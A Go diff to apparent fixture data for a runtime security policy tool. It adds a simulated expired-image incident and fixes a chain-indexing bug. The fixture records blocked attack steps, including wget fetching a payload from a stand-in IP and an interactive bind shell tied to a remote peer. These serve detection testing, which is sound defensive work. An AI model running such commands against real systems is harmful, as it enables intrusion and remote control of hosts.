@@ -60,11 +60,14 @@ func programs() []incident {
 		{host: pay, ago: 20 * minute, kind: exec, verdict: denied, control: policy.AllowedExecutables, rule: "not-listed", policy: "payments-strict", errno: eacces, chain: under(proc(210, 1000, "/usr/bin/wget", "http://192.0.2.66/p"), proc(20, 1000, "/usr/lib/jvm/temurin-21/bin/java", "-jar", "/opt/payments/gateway.jar")), file: image("/usr/bin/wget", "wget")},
 		{host: pay, ago: 22 * minute, kind: exec, verdict: denied, control: policy.BindShell, rule: "stdin+stdout", policy: "payments-strict", errno: eacces, killed: true, chain: under(proc(211, 1000, "/bin/sh", "-i"), proc(20, 1000, "/usr/lib/jvm/temurin-21/bin/java", "-jar", "/opt/payments/gateway.jar")), file: image("/bin/sh", "sh"), more: map[string]string{"peer": "198.51.100.7:50122", "socket_fds": "0,1"}},
 		{host: pay, ago: 25 * minute, kind: exec, verdict: denied, control: policy.Users, rule: "noRoot", policy: "payments-strict", errno: eacces, chain: under(proc(212, 0, "/usr/bin/id"), proc(1, 0, "/bin/sh")), file: image("/usr/bin/id", "id"), more: map[string]string{"ids": "uid 0, gid 0"}},
+		{host: pay, ago: 95 * minute, kind: eventpb.Kind_KIND_LIFECYCLE, verdict: denied, control: policy.ImageAssurance, rule: "expired", policy: "payments-strict", errno: eacces, killed: true,
+			more: map[string]string{"result": "pass", "signer": digest("verdict key")[len("sha256:"):], "judged_at": "2026-10-20T08:00:00Z", "expires_at": "2026-11-19T08:00:00Z"}},
 		{host: web, ago: 14 * minute, kind: exec, verdict: denied, control: policy.Honeypots, rule: "env", policy: "web-servers", errno: eacces, chain: shell(422, "/usr/bin/aws", "s3", "ls"), file: image("/usr/bin/aws", "aws"), more: map[string]string{"decoy": "AWS_BACKUP_SECRET"}},
 	}
 	for _, i := range all {
 		// When a program is judged its process still runs the caller's.
-		if p := i.chain[0]; len(i.chain) > 1 {
+		if len(i.chain) > 1 {
+			p := i.chain[0]
 			p.Exe, p.Comm, p.Digest = i.chain[1].Exe, i.chain[1].Comm, i.chain[1].Digest
 		}
 	}
